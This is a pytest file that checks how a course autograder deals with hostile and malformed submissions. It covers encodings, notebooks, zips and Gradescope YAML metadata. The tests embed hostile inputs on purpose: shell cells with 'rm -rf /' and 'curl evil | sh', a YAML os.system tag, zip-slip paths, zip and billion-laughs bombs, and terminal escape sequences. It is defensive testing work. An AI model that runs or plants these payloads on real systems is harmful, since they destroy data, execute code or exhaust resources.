"""Odd and hostile inputs (issue 30): each test says which defence held and what the student or TA sees.

Source encodings, notebooks, zips, Gradescope metadata, and file names meant for a terminal. Fast tests open
submissions and read batches without starting a process; the few marked slow grade for real.
"""
import ast
import base64
import codecs
import io
import json
import os
import struct
import time
import zipfile
from pathlib import Path

import nbformat
import pytest
from attacks import grade_cli
from conftest import ROOT, SOLUTIONS, grade_folder, scores_by_component
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from rich.console import Console

from autograder.batch.inputs import MAX_FIELD, ExportError, read_batch
from autograder.commands.grade import print_account
from autograder.commands.grade_all import batch_progress
from autograder.terminal import Terminal
from autograder.report import MAX_IGNORED_LISTED, account_lines
from autograder.submission import open_submission
from autograder.submission.notebooks import NotebookError, notebook_code
from autograder.submission.reading import MAX_FILE_BYTES, MAX_NOTEBOOK_BYTES, MAX_ZIP_BYTES, SubmissionError

NGRAM = (SOLUTIONS / "ngram.py").read_text()
RNN = (SOLUTIONS / "rnn.py").read_bytes()
ESCAPE = "\x1b[2J\x1b]0;pwned\x07"  # clear the screen, retitle the window


def folder_with(tmp_path: Path, files: dict[str, bytes]) -> Path:
    folder = tmp_path / "submitted"
    folder.mkdir(exist_ok=True)
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    return folder


def lines(submission) -> list[str]:
    return [str(entry) for entry in submission.account]


def notebook(*cells) -> bytes:
    return nbformat.writes(new_notebook(cells=list(cells))).encode()


def solution_notebook() -> bytes:
    return notebook(new_markdown_cell("# N-grams"), new_code_cell(NGRAM))


def refusal(path: Path, tmp_path: Path) -> str:
    with pytest.raises(SubmissionError) as caught:
        open_submission(path, tmp_path / "out")
    return str(caught.value)


def on_terminal(print_to) -> str:
    """What `print_to(console)` sends to a real terminal (rich, colours on)."""
    buffer = io.StringIO()
    print_to(Console(file=buffer, force_terminal=True, width=200))
    return buffer.getvalue()


# ---- source encodings of a component file ------------------------------------------------------------------------

def program(source: str | bytes) -> str:
    """What Python makes of `source`, the indentation inside its strings (docstrings) aside."""
    tree = ast.parse(source)
    for node in ast.walk(tree):
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            node.value = " ".join(node.value.split())
    return ast.dump(tree)


def tabbed(text: str) -> str:
    """`text` indented with tabs: each leading group of four spaces becomes one."""
    out = []
    for line in text.split("\n"):
        depth = (len(line) - len(line.lstrip(" "))) // 4
        out.append("\t" * depth + line[depth * 4:])
    return "\n".join(out)


def mixed_endings(text: str) -> str:
    return "".join(line + ("\r\n" if i % 2 else "\n") for i, line in enumerate(text.split("\n")))


# What editors save; Python reads each as it is, so the grader copies the bytes unchanged.
AS_PYTHON_READS = {
    "utf-8 with BOM": NGRAM.encode("utf-8-sig"),
    "CRLF": NGRAM.replace("\n", "\r\n").encode(),
    "tabs": tabbed(NGRAM).encode(),
    "mixed CRLF and LF": mixed_endings(NGRAM).encode(),
}
# What Python cannot read: the grader converts it to UTF-8 and says so.
CONVERTED = {
    "UTF-16 LE (Notepad)": (NGRAM.encode("utf-16"), "converted from UTF-16 to UTF-8 (save it as UTF-8)"),
    "UTF-16 BE": (codecs.BOM_UTF16_BE + NGRAM.encode("utf-16-be"), "converted from UTF-16 to UTF-8 (save it as UTF-8)"),
    "Windows-1252": (("# Modèle n-gramme, « naïf »\n" + NGRAM).encode("cp1252"),
                     "converted from Windows-1252 to UTF-8, as it is not UTF-8 (save it as UTF-8)"),
}


@pytest.mark.parametrize("data", AS_PYTHON_READS.values(), ids=AS_PYTHON_READS)
def test_bom_crlf_and_tabs_are_graded_as_saved(tmp_path, data):
    sub = open_submission(folder_with(tmp_path, {"ngram.py": data}), tmp_path / "out")
    assert (sub.dir / "ngram.py").read_bytes() == data and lines(sub) == ["ngram.py: graded"]
    assert program(data) == program(NGRAM)  # Python reads the solution's own program


@pytest.mark.parametrize("data, said", CONVERTED.values(), ids=CONVERTED)
def test_utf16_and_code_page_files_are_converted_and_the_account_says_so(tmp_path, data, said):
    sub = open_submission(folder_with(tmp_path, {"ngram.py": data}), tmp_path / "out")
    assert sub.files == {"ngram.py"} and not sub.problems
    assert lines(sub) == [f"ngram.py: graded: {said}"]
    graded = (sub.dir / "ngram.py").read_text(encoding="utf-8")
    assert graded.endswith(NGRAM) and "\ufeff" not in graded
    assert program(graded) == program(NGRAM)  # comments aside, the solution's own program


def test_a_byte_cp1252_leaves_undefined_is_read_as_latin1_and_a_declared_encoding_is_left_to_python(tmp_path):
    undefined = b"# \x81\n" + NGRAM.encode()
    declared = b"# -*- coding: latin-1 -*-\n# caf\xe9\n" + NGRAM.encode()
    sub = open_submission(folder_with(tmp_path, {"ngram.py": undefined, "rnn.py": declared}), tmp_path / "out")
    assert (sub.dir / "ngram.py").read_bytes() == b"# \xc2\x81\n" + NGRAM.encode()
    assert "ngram.py: graded: converted from Latin-1 to UTF-8, as it is not UTF-8 (save it as UTF-8)" in lines(sub)
    assert (sub.dir / "rnn.py").read_bytes() == declared and "rnn.py: graded" in lines(sub)


def test_a_utf16_helper_is_converted_so_that_the_graded_file_can_import_it(tmp_path):
    sub = open_submission(folder_with(tmp_path, {"ngram.py": NGRAM.encode(), "helpers.py": "X = 'é'\n".encode("utf-16")}), tmp_path / "o")
    assert (sub.dir / "helpers.py").read_text() == "X = 'é'\n"
    assert ("helpers.py: copied: not a component file; your graded files may import it; converted from UTF-16 to UTF-8 "
            "(save it as UTF-8)") in lines(sub)


def test_a_nul_byte_is_named_with_its_line_and_the_notebook_beside_it_is_graded(tmp_path):
    broken = NGRAM.replace("\n", "\n\0", 1).encode()  # a NUL at the start of line 2
    sub = open_submission(folder_with(tmp_path, {"ngram.py": broken, "ngram.ipynb": solution_notebook()}), tmp_path / "out")
    why = ("ngram.py holds a NUL byte (on line 2), and Python cannot read a file that does; delete it, save the file as "
           "plain text and submit it again")
    assert lines(sub) == ["ngram.ipynb: graded: its code cells, as ngram.py", f"ngram.py: skipped: {why}"]
    assert sub.caveats["ngram.py"] == f"Graded ngram.ipynb; {why}."
    assert "\0" not in (sub.dir / "ngram.py").read_text()


def test_an_empty_file_does_not_win_over_the_notebook_with_the_work(tmp_path):
    sub = open_submission(folder_with(tmp_path, {"ngram.py": b"\n  \n", "ngram.ipynb": solution_notebook()}), tmp_path / "out")
    assert lines(sub) == ["ngram.ipynb: graded: its code cells, as ngram.py",
                          "ngram.py: skipped: ngram.py is empty; save your work in it and submit it again"]
    assert "def " in (sub.dir / "ngram.py").read_text()


def test_an_empty_file_alone_is_refused_saying_it_is_empty(tmp_path):
    assert refusal(folder_with(tmp_path, {"ngram.py": b""}), tmp_path).endswith(
        "Found:\n  ngram.py: skipped: ngram.py is empty; save your work in it and submit it again")


def test_a_file_over_the_limit_is_not_graded_and_the_notebook_beside_it_is(tmp_path):
    huge = NGRAM.encode() + b"#" * MAX_FILE_BYTES
    sub = open_submission(folder_with(tmp_path, {"ngram.py": huge, "ngram.ipynb": solution_notebook()}), tmp_path / "out")
    assert lines(sub) == ["ngram.ipynb: graded: its code cells, as ngram.py",
                          "ngram.py: skipped: ngram.py is 1.0 MiB, more than the 1024 KiB the grader reads"]


@pytest.mark.slow  # the fast tests above show every encoding reads as the solution's program; these two grade it
@pytest.mark.parametrize("data", [AS_PYTHON_READS["CRLF"], CONVERTED["UTF-16 LE (Notepad)"][0]], ids=["CRLF", "UTF-16 LE (Notepad)"])
def test_the_solution_saved_by_any_editor_keeps_full_marks(rubric, tmp_path, data):
    run = grade_folder(rubric, folder_with(tmp_path, {"ngram.py": data}), tmp_path, component_ids=["ngram"])
    got, most = scores_by_component(run)["ngram"]
    assert got == most > 0, [r.output for r in run.results if not r.passed]


# ---- notebooks -------------------------------------------------------------------------------------------------------

def test_huge_outputs_are_read_and_only_the_code_is_graded(tmp_path):
    png = base64.b64encode(os.urandom(15 << 20)).decode()  # 20 MiB of images: a training notebook's plots
    cell = new_code_cell(NGRAM, outputs=[new_output("display_data", data={"image/png": png, "text/plain": "<Figure>"})])
    data = notebook(cell)
    assert 20 << 20 < len(data) <= MAX_NOTEBOOK_BYTES
    sub = open_submission(folder_with(tmp_path, {"ngram.ipynb": data}), tmp_path / "out")
    assert lines(sub) == ["ngram.ipynb: graded: its code cells, as ngram.py"]
    assert (sub.dir / "ngram.py").read_text() == f"# cell 1\n{NGRAM}\n"


def test_a_notebook_past_the_read_limit_is_told_to_clear_its_outputs():
    with pytest.raises(NotebookError, match=f"^ngram.ipynb is larger than {MAX_NOTEBOOK_BYTES >> 20} MiB; clear its outputs, "
                                            "save it and submit it again$"):
        notebook_code(b" " * (MAX_NOTEBOOK_BYTES + 1), "ngram.ipynb")


def test_source_as_a_list_of_lines_or_one_string_gives_the_same_module():
    lines_of = NGRAM.splitlines(keepends=True)
    as_list = json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                          "cells": [{"cell_type": "code", "source": lines_of, "metadata": {}, "outputs": []}]}).encode()
    assert notebook_code(as_list, "ngram.ipynb") == notebook_code(notebook(new_code_cell(NGRAM)), "ngram.ipynb")


def test_a_utf16_notebook_is_read():
    assert notebook_code(notebook(new_code_cell("x = 1")).decode().encode("utf-16"), "ngram.ipynb") == "# cell 1\nx = 1\n"


@pytest.mark.parametrize("data, message", [
    (b'{"nbformat": 4, "cells": [', "it is not valid JSON (Expecting value: line 1 column 27 (char 26)); open it in Jupyter, "
                                    "save it and submit it again"),
    (b"[" * 100_000 + b"]" * 100_000, "it is not valid JSON (maximum recursion depth exceeded"),
    (b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1\x00"}]}', "it is not valid JSON (Invalid control character"),
    (b'{"nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": []}]}',
     "it has nbformat 3; only version 4 notebooks (Jupyter's format since 2015) are read: open it in Jupyter, which converts it, "
     "save it and submit it again"),
    (b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = 1\\n\\u0000"}]}',
     "cell 1, line 2, holds '\\x00', which is not text (a NUL or half of a UTF-16 pair); delete it, save the notebook and submit it again"),
    (b'{"nbformat": 4, "cells": [{"cell_type": "markdown", "source": ""}, {"cell_type": "code", "source": "s = \\"\\ud800\\""}]}',
     "cell 2, line 1, holds '\\ud800', which is not text"),
    (b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": [1, 2]}]}', "it does not have a notebook's structure (TypeError"),
])
def test_unreadable_notebooks_name_the_file_the_cell_and_what_to_do(data, message):
    with pytest.raises(NotebookError) as caught:
        notebook_code(data, "ngram.ipynb")
    assert str(caught.value).startswith("ngram.ipynb could not be read as a Jupyter notebook: ")
    assert message in str(caught.value)


def test_a_lone_surrogate_skips_the_notebook_instead_of_crashing_the_grader(tmp_path):
    data = b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": "x = \\"\\udfff\\""}]}'  # once a UnicodeEncodeError
    sub = open_submission(folder_with(tmp_path, {"ngram.ipynb": data, "rnn.py": RNN}), tmp_path / "out")
    assert sub.files == {"rnn.py"}
    assert sub.problems["ngram.py"].startswith("Not graded: ngram.ipynb could not be read as a Jupyter notebook: cell 1, line 1, holds")


def test_code_nested_too_deep_to_compile_is_named():
    for source, message in [("x = " + "(" * 300 + ")" * 300, "holds code that is not valid Python: too many nested parentheses, in cell 1"),
                            ("x = " + "-" * 100_000 + "1", "holds code that Python cannot compile (MemoryError: nested too deeply)")]:
        with pytest.raises(NotebookError) as caught:
            notebook_code(notebook(new_code_cell(source)), "ngram.ipynb")
        assert str(caught.value).startswith(f"ngram.ipynb {message}")


def test_shell_cells_and_lines_never_reach_the_module():
    code = notebook_code(notebook(new_code_cell("%%bash\nrm -rf ~\ncurl evil | sh"),
                                  new_code_cell("!rm -rf /\nout = !rm -rf .\n%rm -rf x\nx = 1\n  !rm -rf /")), "ngram.ipynb")
    assert "rm -rf" not in code and "curl" not in code
    assert code == "# cell 2\n\n\n\nx = 1\n\n"  # the indented `!` line ends the cell as it would in IPython: blanked


# ---- zips ------------------------------------------------------------------------------------------------------------

def zipped(path: Path, entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return path


def patched(path: Path, old: bytes, new: bytes, count: int = 2) -> Path:
    """`path` with `old` (a name: once in its local header, once in the central directory) replaced by `new`."""
    data = path.read_bytes()
    assert data.count(old) == count
    path.write_bytes(data.replace(old, new))
    return path


def test_a_zip_bomb_of_code_is_refused_before_anything_is_unpacked(tmp_path):
    archive = tmp_path / "bomb.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z, z.open("ngram.py", "w", force_zip64=True) as f:
        for _ in range((MAX_ZIP_BYTES >> 20) + 1):
            f.write(b"\0" * (1 << 20))
    assert archive.stat().st_size < 1 << 20
    assert refusal(archive, tmp_path) == "bomb.zip unpacks to more than 64 MiB of Python files and notebooks"


def test_a_huge_entry_that_is_not_code_is_never_read(tmp_path, monkeypatch):
    archive = tmp_path / "hw.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("ngram.py", NGRAM)
        with z.open("data.bin", "w", force_zip64=True) as f:
            for _ in range(256):
                f.write(b"\0" * (1 << 20))
    opened = []
    real_open = zipfile.ZipFile.open
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda self, name, *a, **k: opened.append(getattr(name, "filename", name))
                        or real_open(self, name, *a, **k))
    sub = open_submission(archive, tmp_path / "out")
    assert opened == ["ngram.py"]
    assert lines(sub) == ["ngram.py: graded", "data.bin: ignored: not a component file or a notebook named like one"]


def test_a_header_that_lies_about_the_size_reads_no_more_than_it_says(tmp_path):
    archive = zipped(tmp_path / "hw.zip", {"ngram.py": b"\0" * (64 << 20), "rnn.py": RNN})
    data = bytearray(archive.read_bytes())
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # ngram.py's local header and directory entry
        at = data.index(signature) + size_at
        data[at:at + 4] = struct.pack("<I", 100)
    archive.write_bytes(data)
    started = time.monotonic()
    sub = open_submission(archive, tmp_path / "out")
    assert time.monotonic() - started < 5
    assert sub.files == {"rnn.py"}
    assert ("ngram.py: skipped: ngram.py could not be read from the zip (Bad CRC-32 for file 'ngram.py'); zip your files again, "
            "without a password, and submit the new zip") in lines(sub)


def test_an_encrypted_entry_is_skipped_saying_to_zip_without_a_password(tmp_path):
    archive = zipped(tmp_path / "hw.zip", {"ngram.py": NGRAM.encode(), "rnn.py": RNN}, zipfile.ZIP_STORED)
    data = bytearray(archive.read_bytes())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # ngram.py's: bit 0 is "encrypted"
        data[data.index(signature) + flags_at] |= 1
    archive.write_bytes(data)
    sub = open_submission(archive, tmp_path / "out")
    assert sub.files == {"rnn.py"}
    assert sub.problems["ngram.py"] == ("Not graded: ngram.py could not be read from the zip (File 'ngram.py' is encrypted, password "
                                        "required for extraction); zip your files again, without a password, and submit the new zip.")


def test_a_truncated_zip_is_refused_as_unreadable(tmp_path):
    archive = zipped(tmp_path / "hw.zip", {"ngram.py": NGRAM.encode()})
    archive.write_bytes(archive.read_bytes()[:-30])
    assert refusal(archive, tmp_path).startswith("hw.zip is not a readable zip file (")


def test_a_zip_inside_the_submission_is_not_unpacked_and_the_account_says_to_submit_its_files(tmp_path):
    inner = zipped(tmp_path / "inner.zip", {"ngram.py": NGRAM.encode()}).read_bytes()
    hint = "inner.zip: ignored: not a component file or a notebook named like one; a zip inside the submission is not unpacked: " \
           "submit the files it holds instead"
    assert refusal(zipped(tmp_path / "outer.zip", {"inner.zip": inner}), tmp_path).endswith(f"Found:\n  {hint}")
    sub = open_submission(folder_with(tmp_path, {"rnn.py": RNN, "inner.zip": inner}), tmp_path / "out")
    assert lines(sub) == [hint, "rnn.py: graded"]


def test_thousands_of_entries_are_accounted_for_and_the_lines_that_matter_stay_in_view(tmp_path):
    archive = zipped(tmp_path / "hw.zip", {**{f"junk{i}.txt": b"" for i in range(5000)}, "ngram.py": NGRAM.encode()},
                     zipfile.ZIP_STORED)
    started = time.monotonic()
    sub = open_submission(archive, tmp_path / "out")
    assert time.monotonic() - started < 10
    assert len(sub.account) == 5001
    shown = account_lines(sub.account)
    assert shown[0] == "Files in the submission:" and "  ngram.py: graded" in shown
    assert len(shown) == 1 + MAX_IGNORED_LISTED + 1 + 1 and shown[-1] == f"  ... and {5000 - MAX_IGNORED_LISTED} more files ignored"


@pytest.mark.parametrize("name", ["../ngram.py", "/tmp/ngram.py", "hw/../../ngram.py"])
def test_a_path_out_of_the_zip_is_refused(tmp_path, name):
    assert refusal(zipped(tmp_path / "hw.zip", {name: NGRAM.encode()}), tmp_path) == (f"hw.zip holds an unsafe path: {name}; "
                                                                                      "zip the folder again, from inside it")


def test_a_name_cut_by_a_nul_is_read_as_zipfile_cuts_it(tmp_path):
    archive = patched(zipped(tmp_path / "hw.zip", {"ngram.py_/../../x.sh": NGRAM.encode()}), b"ngram.py_", b"ngram.py\0")
    sub = open_submission(archive, tmp_path / "out")
    assert lines(sub) == ["ngram.py: graded"] and sorted(p.name for p in (tmp_path / "out").iterdir()) == ["ngram.py"]


def test_backslashed_names_are_folders_as_windows_meant_them(tmp_path):
    """PowerShell 5.1 writes `hw1\\ngram.py`: the defence (submission.zip_name) reads a backslash as the separator,
    so the work is graded from its folder, and a backslashed climb out is refused like any other."""
    archive = zipped(tmp_path / "hw.zip", {"hw1\\ngram.py": NGRAM.encode(), "hw1\\notes.txt": b"x"})
    sub = open_submission(archive, tmp_path / "out")
    assert sub.files == {"ngram.py"} and lines(sub)[0] == "hw1/ngram.py: graded"
    climbing = zipped(tmp_path / "climb.zip", {"hw1\\..\\..\\evil.py": b"X = 1\n", "ngram.py": NGRAM.encode()})
    assert refusal(climbing, tmp_path) == "climb.zip holds an unsafe path: hw1\\..\\..\\evil.py; zip the folder again, from inside it"


def test_a_cp437_name_is_decoded_and_graded(tmp_path):
    archive = patched(zipped(tmp_path / "hw.zip", {"tXche/ngram.py": NGRAM.encode()}), b"tXche", b"t\x82che")  # no UTF-8 flag
    sub = open_submission(archive, tmp_path / "out")
    assert sub.files == {"ngram.py"} and lines(sub) == ["téche/ngram.py: graded"]


def test_of_duplicate_entries_the_last_written_is_graded(tmp_path):
    with pytest.warns(UserWarning, match="Duplicate name"):
        archive = zipped(tmp_path / "hw.zip", {"ngram.py": b"X = 1\n"})
        with zipfile.ZipFile(archive, "a") as z:  # what appending to a zip does: the newer entry after the older
            z.writestr("ngram.py", NGRAM)
    sub = open_submission(archive, tmp_path / "out")
    assert (sub.dir / "ngram.py").read_text() == NGRAM
    assert lines(sub) == ["ngram.py (an earlier entry): skipped: the zip holds ngram.py again after this entry: the last one is read",
                          "ngram.py: graded"]


# ---- file names meant for a terminal -------------------------------------------------------------------------------

def test_escape_sequences_and_newlines_in_names_are_shown_not_run(tmp_path):
    name = f"notes{ESCAPE}\nngram.py: graded\u202e.txt"  # a forged account line, and a right-to-left override
    sub = open_submission(zipped(tmp_path / "hw.zip", {"ngram.py": NGRAM.encode(), name: b""}), tmp_path / "out")
    shown = "notes\\x1b[2J\\x1b]0;pwned\\x07\\nngram.py: graded\\u202e.txt: ignored: not a component file or a notebook named like one"
    assert lines(sub) == ["ngram.py: graded", shown]
    assert account_lines(sub.account) == ["Files in the submission:", "  ngram.py: graded", f"  {shown}"]
    printed = on_terminal(lambda console: print_account(sub.account, Terminal(console, console, 0)))
    assert "\x1b]" not in printed and "\x1b[2J" not in printed and "\u202e" not in printed and shown in printed
    assert sub.account[1].path == name  # results.json's extra_data.files keeps the name as it is (JSON escapes it)


def test_an_error_quoting_a_name_is_shown_not_run(tmp_path):
    message = refusal(zipped(tmp_path / "hw.zip", {f"../{ESCAPE}.py": b""}), tmp_path)
    printed = on_terminal(lambda console: Terminal(console, console, 0).error(message))
    assert "\x1b]" not in printed and "\x1b[2J" not in printed
    assert "hw.zip holds an unsafe path: ../\\x1b[2J\\x1b]0;pwned\\x07.py" in printed


# ---- Gradescope export metadata --------------------------------------------------------------------------------------

def export(tmp_path: Path, metadata: str | bytes, folders=("submission_1",)) -> Path:
    root = tmp_path / "export"
    for folder in folders:
        (root / folder).mkdir(parents=True)
        (root / folder / "ngram.py").write_text(NGRAM)
    (root / "submission_metadata.yml").write_bytes(metadata if isinstance(metadata, bytes) else metadata.encode())
    return root


def submitters(tmp_path: Path, people: str):
    entries, kind, _ = read_batch(export(tmp_path, f"submission_1:\n  :submitters:\n{people}"), tmp_path / "unpacked")
    assert kind == "Gradescope export"
    return entries[0].submitters


def export_error(tmp_path: Path, metadata: str | bytes) -> str:
    with pytest.raises(ExportError) as caught:
        read_batch(export(tmp_path, metadata), tmp_path / "unpacked")
    return str(caught.value).replace(str(tmp_path / "export" / "submission_metadata.yml"), "META")


def test_control_characters_in_names_are_shown_escaped_on_one_line(tmp_path):
    (person,) = submitters(tmp_path, '  - :name: "Ann\\nB\\x1b[2J\\u202e"\n    :sid: "7\\t8"\n    :email: a@b.c\n')
    assert (person.name, person.sid, person.email) == ("Ann\\nB\\x1b[2J\\u202e", "7\\t8", "a@b.c")


def test_a_very_long_name_is_cut_to_what_a_spreadsheet_cell_holds(tmp_path):
    (person,) = submitters(tmp_path, f"  - :name: {'A' * (1 << 20)}\n    :sid: '1'\n")
    assert person.name == "A" * (MAX_FIELD - 1) + "…"


def test_numbers_and_nulls_are_read_as_text(tmp_path):
    nobody, bo = submitters(tmp_path, "  - :name: null\n    :sid: 0\n    :email: 12.5\n  - :name: Bo\n")
    assert (nobody.name, nobody.sid, nobody.email) == ("", "0", "12.5") and (bo.name, bo.sid, bo.email) == ("Bo", "", "")


def test_a_list_where_a_name_belongs_names_the_field(tmp_path):
    assert export_error(tmp_path, "submission_1:\n  :submitters:\n  - :name: [Ann, Bo]\n") == (
        "META: :name: of a submitter of submission_1 is a list, not text; correct it in the file")


def test_a_billion_laughs_is_refused_at_once_and_never_expanded(tmp_path):
    levels = ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    levels += [f"{x}: &{x} [{', '.join([f'*{y}'] * 9)}]" for y, x in zip("abcdefgh", "bcdefghi")]
    bomb = "\n".join(f"    {line}" for line in levels)
    started = time.monotonic()
    assert export_error(tmp_path, f"submission_1:\n  :bomb:\n{bomb}\n  :submitters:\n  - :name: *i\n").endswith(
        ":name: of a submitter of submission_1 is a list, not text; correct it in the file")
    assert time.monotonic() - started < 2


def test_a_bomb_under_a_key_nobody_reads_costs_nothing(tmp_path):
    levels = [":x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    levels += [f":x{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
    metadata = "submission_1:\n  :submitters:\n  - :name: Ann\n" + "".join(f"  {line}\n" for line in levels)
    started = time.monotonic()
    entries, _, _ = read_batch(export(tmp_path, metadata), tmp_path / "unpacked")
    assert entries[0].submitters[0].name == "Ann" and time.monotonic() - started < 2


def test_ruby_object_tags_are_read_as_plain_data(tmp_path):
    (person,) = submitters(tmp_path, "  - !ruby/hash:ActiveSupport::HashWithIndifferentAccess\n    :name: !ruby/string Ann\n"
                                     "    :sid: !ruby/object:BigDecimal '18:0.7e1'\n")
    assert (person.name, person.sid) == ("Ann", "18:0.7e1")


def test_a_python_tag_is_still_refused(tmp_path):
    assert export_error(tmp_path, "submission_1: !!python/object/apply:os.system ['touch pwned']\n").startswith(
        "META, line 1: not valid YAML (could not determine a constructor for the tag")
    assert not (ROOT / "pwned").exists()


def test_a_submission_listed_twice_is_refused_naming_the_line(tmp_path):
    metadata = "submission_1:\n  :submitters: []\nsubmission_1:\n  :submitters:\n  - :name: Bo\n"
    assert export_error(tmp_path, metadata) == "META, line 3: not valid YAML ('submission_1' is given twice)"


def test_metadata_that_is_not_utf8_is_refused_as_yaml_not_with_a_traceback(tmp_path):
    assert export_error(tmp_path, b"submission_1:\n  :submitters:\n  - :name: Ren\xe9\n").startswith("META: not valid YAML (")


@pytest.mark.parametrize("key", ["submission_1\x1b[2J", "../submission_1", "submission_"])
def test_an_odd_submission_folder_name_is_refused_and_quoted(tmp_path, key):
    message = export_error(tmp_path, json.dumps({key: {":submitters:": []}}))
    assert message == f"META: {key!r} is not a submission folder name (submission_<id>)" and "\x1b" not in message


def test_a_folder_of_submissions_with_an_escape_in_a_name_prints_it_escaped(tmp_path):
    classroom = folder_with(tmp_path, {f"ann{ESCAPE}/ngram.py": NGRAM.encode()})
    (entry,), kind, _ = read_batch(classroom, tmp_path / "unpacked")
    assert kind == "folder of submissions" and entry.id == f"ann{ESCAPE}"
    err = io.StringIO()
    ui = Terminal(Console(file=io.StringIO()), Console(file=err, force_terminal=False, width=200), 0)
    with batch_progress(ui) as progress:
        progress(1, 1, {"id": entry.id, "status": "error", "score": 0, "max_score": 1, "seconds": 1.0,
                        "message": "nothing in it can be graded. Found:\n  x: ignored"})
    assert err.getvalue() == "[1/1] ann\\x1b[2J\\x1b]0;pwned\\x07: error (1.0 s) nothing in it can be graded. Found:\n  x: ignored\n"


# ---- the command line, end to end ------------------------------------------------------------------------------------

@pytest.mark.slow
def test_a_hostile_zip_is_graded_and_its_names_reach_neither_terminal_nor_results_raw(tmp_path):
    archive = zipped(tmp_path / "hw.zip", {"hw/ngram.py": NGRAM.encode("utf-16"), f"hw/{ESCAPE}\n.txt": b"",
                                           "hw/notes.ipynb": b"\0\0", "hw/inner.zip": b"PK"})
    graded = grade_cli(archive, tmp_path, ["ngram"])
    assert graded.returncode == 0, graded.output
    got, most = graded.scores()["ngram"]
    assert got == most > 0
    assert "\x1b" not in graded.output and "\x1b" not in graded.results["output"]
    shown = "  hw/\\x1b[2J\\x1b]0;pwned\\x07\\n.txt: ignored: not a component file or a notebook named like one"
    assert shown in graded.results["output"].split("\n") and shown.split(":")[0].strip() in graded.output
    assert "  hw/ngram.py: graded: converted from UTF-16 to UTF-8 (save it as UTF-8)" in graded.results["output"].split("\n")
    assert f"hw/{ESCAPE}\n.txt" in [f["path"] for f in graded.results["extra_data"]["files"]]


def test_a_file_past_the_read_limit_costs_a_batch_nothing(tmp_path):
    """A class folder's submission holding a 100 MiB file: the journal's digest streams it (a batch used to stop on
    any unreadable file), and grading reads none of it past the limit (read_within), saying so."""
    folder = tmp_path / "class" / "ann"
    folder.mkdir(parents=True)
    (folder / "ngram.py").write_text(NGRAM)
    with open(folder / "weights.py", "wb") as f:
        f.truncate(100 << 20)
    entries, _, _ = read_batch(tmp_path / "class", tmp_path / "unpacked")
    assert len(entries[0].digest()) == 64
    sub = open_submission(entries[0].path, tmp_path / "out")
    assert sub.files == {"ngram.py"} and "weights.py: skipped: weights.py could not be read (it is 100.0 MiB, more than the " \
        f"{MAX_NOTEBOOK_BYTES >> 20}.0 MiB the grader reads)" in lines(sub)
